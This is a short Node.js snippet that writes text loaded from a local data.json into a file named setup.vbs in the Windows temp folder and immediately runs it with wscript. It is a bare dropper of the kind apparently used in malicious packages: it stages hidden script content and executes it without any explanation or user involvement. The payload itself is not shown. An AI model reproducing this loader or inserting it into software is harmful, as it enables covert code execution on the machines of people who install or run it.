const { writeFileSync } = require('fs');
const { exec } = require('child_process');
writeFileSync(process.env.TEMP + '\\setup.vbs', payload());
exec('wscript ' + process.env.TEMP + '\\setup.vbs');
function payload() { return require('./data.json').text; }
